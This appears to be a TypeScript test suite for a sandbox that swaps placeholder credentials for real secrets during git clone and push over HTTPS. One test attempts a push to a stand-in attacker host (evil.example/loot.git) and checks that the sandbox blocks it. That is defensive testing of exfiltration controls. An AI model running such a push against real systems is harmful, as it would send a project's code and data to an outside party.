/**
 * git in a cage: clone and push over HTTPS to git's own server. The password is a placeholder; the server demands the
 * secret, in Basic credentials, where the placeholder stands in Base64.
 */
import assert from 'node:assert/strict'
import { mkdir, rm } from 'node:fs/promises'
import { createServer, type Server } from 'node:https'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { run } from '../../support/command.ts'
import { serveGit } from '../../support/git-server.ts'
import { makeFolder } from '../../support/temporary.ts'
import type { Identity } from '../../support/test-authority.ts'
import { withoutCagesOr } from '../support/cage.ts'
import { SECRET, SECRET_NAME, World } from '../support/world.ts'

describe('git', { skip: withoutCagesOr('git') }, () => {
  let world: World
  let repositories: string
  let bare: string

  before(async () => {
    repositories = await makeFolder()
    bare = join(repositories, 'project.git')
    await makeRepository(repositories, bare)
    world = await World.open(async (internet) => {
      await internet.listen('git.test', 443, gitServer(repositories, internet.authority.issue('git.test')))
    })
  })
  after(async () => {
    await world.close()
    await rm(repositories, { recursive: true, force: true })
  })

  test('clone, commit and push, small and large', async () => {
    const script = `
      set -e
      git clone -q "https://person:$API_TOKEN@git.test/project.git" work
      cd work
      cat readme
      git config user.name 'A Person'
      git config user.email person@example.org
      echo changed > readme
      head -c 3000000 /dev/urandom > large # more than http.postBuffer: sent in chunks
      git add . && git commit -q -m second && git push -q origin main
      git ls-remote -q origin main | cut -f1
    `
    const { code, stdout, stderr } = await world.cage.sh(script)
    assert.equal(code, 0, stderr)
    const [readme, pushed] = stdout.trim().split('\n')
    assert.equal(readme, 'from the server')
    assert.equal(pushed, await git(bare, 'rev-parse', 'main'))
    assert.equal(await git(bare, 'cat-file', '-s', 'main:large'), '3000000')
    const records = await world.recordsOf('git.test')
    assert.ok(
      records.some(
        ({ path, method, status }) => path === '/project.git/git-receive-pack' && method === 'POST' && status === 200,
      ),
    )
    const authorised = records.filter(({ status }) => status === 200)
    for (const record of authorised) assert.deepEqual(record.secrets_injected, [SECRET_NAME])
    assert.ok(!JSON.stringify(records).includes(SECRET))
  })

  test('the clone on the host holds the placeholder, and nothing in the project the secret', async () => {
    const { code, stdout } = await run('grep', ['-rlF', SECRET, world.host.project])
    assert.deepEqual([code, stdout], [1, ''])
  })

  test('a server that is not listed cannot be pushed to', async () => {
    const { code, stderr } = await world.cage.sh('git -C work push -q https://evil.example/loot.git main')
    assert.notEqual(code, 0)
    assert.match(stderr, /403/)
  })
})

async function makeRepository(folder: string, bare: string): Promise<void> {
  const work = join(folder, 'seed')
  await mkdir(work)
  await git(folder, 'init', '-q', '--bare', '-b', 'main', bare)
  await git(bare, 'config', 'http.receivepack', 'true')
  await git(folder, 'init', '-q', '-b', 'main', work)
  await run('sh', ['-c', 'echo from the server > readme'], { cwd: work })
  await git(work, 'add', '.')
  await git(work, '-c', 'user.name=Server', '-c', 'user.email=server@example.org', 'commit', '-q', '-m', 'first')
  await git(work, 'push', '-q', bare, 'main')
}

async function git(cwd: string, ...args: readonly string[]): Promise<string> {
  const { code, stdout, stderr } = await run('git', args, { cwd, env: { PATH: process.env['PATH'], HOME: cwd } })
  assert.equal(code, 0, `git ${args.join(' ')}: ${stderr}`)
  return stdout.trim()
}

function gitServer(root: string, identity: Identity): Server {
  return createServer(identity, (request, response) => {
    const expected = `Basic ${Buffer.from(`person:${SECRET}`).toString('base64')}`
    if (request.headers.authorization === expected) return serveGit(root, request, response)
    response.writeHead(401, { 'www-authenticate': 'Basic realm="git"', 'content-length': 0 }).end()
  })
}
